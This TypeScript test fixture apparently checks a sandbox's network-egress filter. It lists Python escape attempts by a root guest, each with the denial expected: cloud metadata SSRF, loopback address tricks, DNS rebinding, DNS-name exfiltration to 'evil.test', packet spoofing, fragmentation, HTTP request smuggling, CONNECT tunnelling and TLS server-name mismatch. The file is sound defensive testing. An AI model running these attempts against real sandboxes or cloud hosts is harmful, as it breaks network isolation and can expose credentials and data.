import type { Try } from "../helpers/escape-runs.ts";

/** What a program of the guest's, as root, tries on a restricted network, and what comes of it. */
export interface Cell {
  readonly name: string;
  /** Python that sets `r`; what it raises is the outcome, too. It has the names of {@link PRELUDE}, and the words in braces are filled in */
  readonly attempt: string;
  /** what it sees: "reached", "reset", "refused" (by the guest itself), "no route", "no name", "no answer" */
  readonly outcome: string;
  /** what is told of it: the decision, and why; absent: nothing, as it did not leave */
  readonly event?: string;
  /** the name whose event counts, where others are told of beside it; absent: the last one */
  readonly about?: string;
  /** it needs what not every machine has: another address than loopback ("lan"), or root's ports ("root") */
  readonly needs?: "lan" | "root";
}

/**
 * {here}: where the allowed server is; {good}: its port; {trap}: the port that another one of this machine has at all addresses, over TCP and UDP; {lan}: this machine's address.
 */
export const PRELUDE = `
import errno, json, os, socket, struct, sys
HTTP = "GET / HTTP/1.1\\r\\nHost: %s\\r\\nConnection: close\\r\\n\\r\\n"
def talk(s, text):
    s.settimeout(20)
    s.sendall(text.encode("latin1"))
    got = b""
    while True:
        piece = s.recv(65536)
        if not piece: return got
        got += piece
def tcp(host, port, text="hello", family=0):
    for family, kind, proto, _, address in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
        s = socket.socket(family, kind, proto)
        s.settimeout(20)
        s.connect(address)
        return said(talk(s, text))
def said(got):
    return "reached" if got else "nothing said"
def web(host, text, port=80):
    return tcp(host, port, text)
def udp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.sendto(b"hello", (host, port))
    return said(s.recv(100))
def raw(proto, host, packet, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_RAW, proto)
    s.settimeout(2)
    s.sendto(packet, (host, 0))
    return "sent"
def spoofed(source, host, port):
    # an IPv4 header, and a SYN behind it
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 1, 0, 64, 6, 0, socket.inet_aton(source), socket.inet_aton(host))
    syn = struct.pack("!HHIIBBHHH", 4000, port, 1, 0, 0x50, 2, 1024, 0, 0)
    return raw(socket.IPPROTO_RAW, host, ip + syn)
def fragment(host, port, flags):
    body = struct.pack("!HHHH", 5555, port, 24, 0) + b"fragment" * 2
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), 7, flags, 64, 17, 0, socket.inet_aton("10.9.8.7"), socket.inet_aton(host))
    return raw(socket.IPPROTO_RAW, host, ip + body)
def question(name, kind):
    labels = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".") if l)
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", kind, 1)
def counts(answer):
    return "rcode %d, %d answers" % (answer[3] & 15, struct.unpack("!H", answer[6:8])[0])
def ask(name, kind, server="198.18.0.1"):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    s.sendto(question(name, kind), (server, 53))
    return counts(s.recv(4096))
def ask_tcp(name, kind, server="198.18.0.1"):
    s = socket.create_connection((server, 53), timeout=20)
    q = question(name, kind)
    s.sendall(struct.pack("!H", len(q)) + q)
    got = s.recv(4096)
    return counts(got[2:]) if got else "nothing said"
def outcome(attempt):
    try:
        scope = dict(globals())
        exec(attempt, scope)
        return str(scope["r"])
    except socket.gaierror: return "no name"
    except (ConnectionResetError, BrokenPipeError): return "reset"
    except ConnectionRefusedError: return "refused"
    except socket.timeout: return "no answer"
    except OSError as e:
        if e.errno in (errno.ENETUNREACH, errno.EHOSTUNREACH, errno.ENODEV, errno.EADDRNOTAVAIL): return "no route"
        if e.errno == errno.ENOTCONN: return "reset"
        return errno.errorcode.get(e.errno, str(e))
    except Exception as e: return repr(e)
print(json.dumps([outcome(a) for a in json.load(sys.stdin)]))
`;

const reached = { outcome: "reached", event: "allowed" } as const;
const denied = (reason: string): Pick<Cell, "outcome" | "event"> => ({
  outcome: "reset",
  event: `denied: ${reason}`,
});
const closed = (reason: string): Pick<Cell, "outcome" | "event"> => ({
  outcome: "reset",
  event: `closed: ${reason}`,
});
const kept = (outcome: string): Pick<Cell, "outcome"> => ({ outcome });

/** The rules are `good.test`, `*.wild.test` and {here}; {lan} where a cell says so. */
export const CELLS: readonly Cell[] = [
  // what is allowed
  { name: "an allowed name", attempt: 'r = tcp("good.test", {good})', ...reached },
  {
    name: "an allowed name, over IPv6",
    attempt: 'r = tcp("good.test", {good}, family=socket.AF_INET6)',
    ...reached,
  },
  { name: "an allowed name in other letters", attempt: 'r = tcp("GOOD.Test", {good})', ...reached },
  { name: "an allowed name with a dot at its end", attempt: 'r = tcp("good.test.", {good})', ...reached },
  { name: "a name below an allowed one", attempt: 'r = tcp("a.b.wild.test", {good})', ...reached },
  {
    name: "an allowed name of 253 characters",
    attempt: 'r = tcp(("a" * 61 + ".") * 3 + "b" * 57 + ".wild.test", {good})',
    ...reached,
  },
  {
    name: "200 connections at once",
    attempt:
      'ss = [socket.create_connection(("good.test", {good}), 20) for _ in range(200)]; r = said(b"".join(talk(s, "x")[:1] for s in ss))',
    ...reached,
  },
  {
    name: "an allowed name, while 300 other connections are being refused",
    attempt:
      'a = socket.gethostbyname("evil.test"); ss = [socket.socket() for _ in range(300)]; [(s.setblocking(False), s.connect_ex((a, {trap}))) for s in ss]; r = tcp("good.test", {good})',
    about: "good.test",
    ...reached,
  },
  // names
  { name: "another name", attempt: 'r = tcp("evil.test", {trap})', ...denied("no-rule") },
  {
    name: "a name below one that is allowed alone",
    attempt: 'r = tcp("sub.good.test", {trap})',
    ...denied("no-rule"),
  },
  {
    name: "the name above an allowed wildcard",
    attempt: 'r = tcp("wild.test", {trap})',
    ...denied("no-rule"),
  },
  {
    name: "an allowed name with something behind it",
    attempt: 'r = tcp("good.test.evil.test", {trap})',
    ...denied("no-rule"),
  },
  {
    name: "an allowed name with something before it",
    attempt: 'r = tcp("xgood.test", {trap})',
    ...denied("no-rule"),
  },
  {
    name: "a name of more than 253 characters",
    attempt: 'r = tcp(("a" * 61 + ".") * 4 + "wild.test", {trap})',
    ...kept("no name"),
  },
  // what names lead to
  {
    name: "a name that is this host's loopback, where neighbours' ports are published",
    attempt: 'r = tcp("loop.wild.test", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "a name that is a private address",
    attempt: 'r = tcp("private.wild.test", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "a name that is a cloud's metadata",
    attempt: 'r = tcp("metadata.wild.test", 80, HTTP % "metadata.wild.test")',
    ...denied("metadata"),
  },
  {
    name: "a name that is this host",
    attempt: 'r = tcp("lan.wild.test", {trap})',
    ...denied("own-address"),
    needs: "lan",
  },
  {
    name: "a name that is 0.0.0.0",
    attempt: 'r = tcp("zero.wild.test", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "a name with a bad and a good address: the good one",
    attempt: 'r = tcp("both.wild.test", {good})',
    ...reached,
  },
  {
    name: "a name that is another address the second time (rebinding)",
    attempt: 'r = tcp("rebound.wild.test", {trap})',
    ...denied("special-purpose"),
  },
  // addresses
  {
    name: "this host's loopback, which is the guest's own",
    attempt: 'r = tcp("127.0.0.1", {trap})',
    ...kept("refused"),
  },
  { name: "loopback as 127.1", attempt: 'r = tcp("127.1", {trap})', ...kept("refused") },
  { name: "loopback as 2130706433", attempt: 'r = tcp("2130706433", {trap})', ...kept("refused") },
  { name: "loopback as 0x7f000001", attempt: 'r = tcp("0x7f000001", {trap})', ...kept("refused") },
  { name: "loopback as 0177.0.0.1", attempt: 'r = tcp("0177.0.0.1", {trap})', ...kept("refused") },
  { name: "loopback of IPv6", attempt: 'r = tcp("::1", {trap})', ...kept("refused") },
  {
    name: "this host's address",
    attempt: 'r = tcp("{lan}", {trap})',
    ...denied("own-address"),
    needs: "lan",
  },
  {
    name: "this host's address, mapped to IPv6",
    attempt: 'r = tcp("::ffff:{lan}", {trap})',
    ...denied("own-address"),
    needs: "lan",
  },
  {
    name: "this host's address behind NAT64",
    attempt: 'r = tcp("64:ff9b::{lan}", {trap})',
    ...denied("special-purpose"),
    needs: "lan",
  },
  {
    name: "this host's address in a number",
    attempt: 'r = tcp(str(struct.unpack("!I", socket.inet_aton("{lan}"))[0]), {trap})',
    ...denied("own-address"),
    needs: "lan",
  },
  { name: "a public address", attempt: 'r = tcp("1.1.1.1", 443)', ...denied("no-rule") },
  { name: "a public address of IPv6", attempt: 'r = tcp("2606:4700::1111", 443)', ...denied("no-rule") },
  {
    name: "the internet at 53, over TCP",
    attempt: 'r = ask_tcp("evil.test", 1, "8.8.8.8")',
    ...denied("no-rule"),
  },
  {
    name: "another name, with content in the first packet (fast open)",
    attempt:
      's = socket.socket(); s.settimeout(20)\ntry: s.sendto(b"hello", 0x20000000, (socket.gethostbyname("evil.test"), {good}))\nexcept BlockingIOError: pass\nr = said(s.recv(9))',
    ...denied("no-rule"),
  },
  {
    name: "another name, from an address that is none of this machine's",
    attempt:
      's = socket.socket(); s.settimeout(20); s.setsockopt(0, 15, 1); s.bind(("8.8.8.8", 0)); s.connect((socket.gethostbyname("evil.test"), {good})); r = said(talk(s, "hello"))',
    outcome: "no route",
  },
  {
    name: "an allowed name, from a network namespace of its own",
    attempt:
      'import ctypes; to = (socket.gethostbyname("good.test"), {good}); ctypes.CDLL(None).unshare(0x40000000); s = socket.create_connection(to, 20); r = said(talk(s, "hello"))',
    outcome: "no route",
  },
  { name: "DNS of somebody else, over TLS", attempt: 'r = tcp("8.8.8.8", 853)', ...denied("no-rule") },
  { name: "DNS of somebody else, over HTTPS", attempt: 'r = tcp("8.8.8.8", 443)', ...denied("no-rule") },
  { name: "private addresses: 10/8", attempt: 'r = tcp("10.0.0.1", 80)', ...denied("special-purpose") },
  {
    name: "private addresses: 172.16/12",
    attempt: 'r = tcp("172.17.0.1", 80)',
    ...denied("special-purpose"),
  },
  {
    name: "private addresses: 192.168/16",
    attempt: 'r = tcp("192.168.1.1", 80)',
    ...denied("special-purpose"),
  },
  {
    name: "another sandbox's address on a tap",
    attempt: 'r = tcp("10.213.1.2", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "a tap's address on this host",
    attempt: 'r = tcp("10.213.0.1", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "private addresses: 100.64/10",
    attempt: 'r = tcp("100.64.0.1", 80)',
    ...denied("special-purpose"),
  },
  { name: "private addresses: fc00::/7", attempt: 'r = tcp("fd00::1", 80)', ...denied("special-purpose") },
  { name: "link-local addresses", attempt: 'r = tcp("169.254.1.1", 80)', ...denied("special-purpose") },
  {
    name: "link-local addresses of IPv6",
    attempt: 'r = tcp("fe80::1%lo", 80)',
    ...denied("special-purpose"),
  },
  {
    name: "a cloud's metadata",
    attempt: 'r = tcp("169.254.169.254", 80, HTTP % "169.254.169.254")',
    ...denied("metadata"),
  },
  {
    name: "a cloud's metadata at a public address",
    attempt: 'r = tcp("168.63.129.16", 80, HTTP % "168.63.129.16")',
    ...denied("metadata"),
  },
  {
    name: "loopback in 6to4",
    attempt: 'r = tcp("2002:7f00:1::1", {trap})',
    ...denied("special-purpose"),
  },
  { name: "a cloud's metadata over IPv6", attempt: 'r = tcp("fd00:ec2::254", 80)', ...denied("metadata") },
  {
    name: "an address that stands for no name",
    attempt: 'r = tcp("198.19.7.7", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "the address of QEMU's user-mode gateway",
    attempt: 'r = tcp("10.0.2.2", {trap})',
    ...denied("special-purpose"),
  },
  // other protocols
  { name: "UDP to this host", attempt: 'r = udp("{lan}", {trap})', ...kept("no route"), needs: "lan" },
  { name: "UDP to the internet (QUIC)", attempt: 'r = udp("1.1.1.1", 443)', ...kept("no route") },
  {
    name: "UDP to an allowed name",
    attempt: 'r = udp(socket.gethostbyname("good.test"), {trap})',
    ...kept("no route"),
  },
  { name: "UDP over IPv6", attempt: 'r = udp("2606:4700::1111", 443, socket.AF_INET6)', ...kept("no route") },
  { name: "DNS of somebody else", attempt: 'r = ask("evil.test", 1, "8.8.8.8")', ...kept("no route") },
  {
    name: "ICMP",
    attempt: 'r = raw(socket.IPPROTO_ICMP, "1.1.1.1", b"\\x08\\0\\xf7\\xff\\0\\0\\0\\0")',
    ...kept("no route"),
  },
  {
    name: "ICMP over IPv6",
    attempt:
      'r = raw(socket.IPPROTO_ICMPV6, "2606:4700::1111", b"\\x80\\0\\0\\0\\0\\0\\0\\0", socket.AF_INET6)',
    ...kept("no route"),
  },
  {
    name: "a packet with another source",
    attempt: 'r = spoofed("9.9.9.9", "1.1.1.1", {trap})',
    ...kept("no route"),
  },
  {
    name: "a datagram in two fragments",
    attempt: 'r = fragment("1.1.1.1", {trap}, 0x2000) + fragment("1.1.1.1", {trap}, 1)',
    ...kept("no route"),
  },
  {
    name: "a fragment whose first one never comes",
    attempt: 'r = fragment("1.1.1.1", {trap}, 100)',
    ...kept("no route"),
  },
  {
    name: "ARP, and a card's address of its own, which need a card",
    attempt:
      's = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(("eth0", 0)); r = "a card"',
    ...kept("no route"),
  },
  {
    name: "a packet on any card there is",
    attempt: 'r = " ".join(name for _, name in socket.if_nameindex())',
    ...kept("lo"),
  },
  {
    name: "a card of its own",
    attempt:
      'r = os.system("ip link add smolvm9 type veth peer name smolvm8 2>/dev/null; ip addr add 10.7.7.1/24 dev smolvm9 2>/dev/null; ip link set smolvm9 up 2>/dev/null") and "" or tcp("10.7.8.1", {trap})',
    ...denied("special-purpose"),
  },
  {
    name: "the host's vsock",
    attempt:
      'try:\n    s = socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.settimeout(5); s.connect((2, {trap})); r = "connected"\nexcept OSError: r = "no route"',
    ...kept("no route"),
  },
  // names as a way out
  {
    name: "a secret in a name that is asked for",
    attempt: 'r = ask("c2VjcmV0.evil.test", 1)',
    ...kept("rcode 0, 1 answers"),
  },
  {
    name: "a secret in a name, asked for by TCP",
    attempt: 'r = ask_tcp("c2VjcmV0.evil.test", 1)',
    ...kept("rcode 0, 1 answers"),
  },
  { name: "text from a name (TXT)", attempt: 'r = ask("evil.test", 16)', ...kept("rcode 0, 0 answers") },
  {
    name: "anything from a name (NULL, ANY)",
    attempt: 'r = ask("evil.test", 10) + "; " + ask("evil.test", 255)',
    ...kept("rcode 0, 0 answers; rcode 0, 0 answers"),
  },
  { name: "mail servers of a name (MX)", attempt: 'r = ask("good.test", 15)', ...kept("rcode 0, 0 answers") },
  { name: "a name that is none", attempt: 'r = ask("a b.evil.test", 1)', ...kept("rcode 3, 0 answers") },
  // what is in a connection
  {
    name: "HTTP to the allowed host",
    attempt: 'r = web("good.test", HTTP % "good.test")',
    ...reached,
    needs: "root",
  },
  {
    name: "HTTP to another host",
    attempt: 'r = web("good.test", HTTP % "evil.test")',
    ...closed("other-host"),
    needs: "root",
  },
  {
    name: "HTTP to another host, in the target",
    attempt: 'r = web("good.test", "GET http://evil.test/ HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")',
    ...closed("other-host"),
    needs: "root",
  },
  {
    name: "HTTP to an address as host",
    attempt: 'r = web("good.test", HTTP % "{here}")',
    ...closed("other-host"),
    needs: "root",
  },
  {
    name: "a second request to another host, in one piece",
    attempt: 'r = web("good.test", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n" + HTTP % "evil.test")',
    ...closed("other-host"),
    needs: "root",
  },
  {
    name: "a second request in the first one's content",
    attempt:
      'r = web("good.test", "POST / HTTP/1.1\\r\\nHost: good.test\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + HTTP % "evil.test")',
    ...closed("ambiguous-request"),
    needs: "root",
  },
  {
    name: "a second request to another host, behind a WebSocket that the server refuses",
    attempt:
      'r = web("good.test", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\n\\r\\n" + HTTP % "evil.test")',
    ...closed("other-host"),
    needs: "root",
  },
  {
    name: "HTTP that is to become HTTP/2",
    attempt:
      'r = web("good.test", "GET / HTTP/1.1\\r\\nHost: good.test\\r\\nConnection: Upgrade\\r\\nUpgrade: h2c\\r\\n\\r\\n")',
    ...closed("ambiguous-request"),
    needs: "root",
  },
  {
    name: "a proxy's CONNECT",
    attempt: 'r = web("good.test", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: good.test\\r\\n\\r\\n")',
    ...closed("not-http"),
    needs: "root",
  },
  {
    name: "another protocol on port 80",
    attempt: 'r = web("good.test", "SSH-2.0-x\\r\\n\\r\\n")',
    ...closed("not-http"),
    needs: "root",
  },
  {
    name: "TLS to the allowed name",
    attempt:
      'import ssl; c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); b = c.wrap_bio(i, o, server_hostname="good.test")\ntry: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection(("good.test", 443), 20); s.sendall(o.read()); r = said(s.recv(9))',
    ...reached,
    needs: "root",
  },
  {
    name: "TLS to the allowed name, a byte at a time",
    attempt:
      'import ssl; c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); b = c.wrap_bio(i, o, server_hostname="good.test")\ntry: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection(("good.test", 443), 20); s.setsockopt(6, 1, 1)\nfor byte in o.read(): s.sendall(bytes([byte]))\nr = said(s.recv(9))',
    ...reached,
    needs: "root",
  },
  {
    name: "TLS to another name, a byte at a time",
    attempt:
      'import ssl; c = ssl._create_unverified_context(); i, o = ssl.MemoryBIO(), ssl.MemoryBIO(); b = c.wrap_bio(i, o, server_hostname="evil.test")\ntry: b.do_handshake()\nexcept ssl.SSLWantReadError: pass\ns = socket.create_connection(("good.test", 443), 20); s.setsockopt(6, 1, 1)\nfor byte in o.read(): s.sendall(bytes([byte]))\nr = said(s.recv(9))',
    ...closed("other-server-name"),
    needs: "root",
  },
  {
    name: "TLS to another name",
    attempt:
      'import ssl; c = ssl._create_unverified_context(); s = socket.create_connection(("good.test", 443), 20); c.wrap_socket(s, server_hostname="evil.test"); r = "a handshake"',
    ...closed("other-server-name"),
    needs: "root",
  },
  {
    name: "TLS to no name",
    attempt:
      'import ssl; c = ssl._create_unverified_context(); s = socket.create_connection(("good.test", 443), 20); c.wrap_socket(s); r = "a handshake"',
    ...closed("no-server-name"),
    needs: "root",
  },
  {
    name: "another protocol on port 443",
    attempt: 'r = web("good.test", HTTP % "good.test", 443)',
    ...closed("not-tls"),
    needs: "root",
  },
];

/** What a guest tries, and what has to come of it. */
export const TRIES: readonly Try[] = CELLS.map(({ name, attempt, outcome, event = "" }) => ({
  name,
  attempt,
  outcome: `${outcome} ${event}`.trim(),
}));
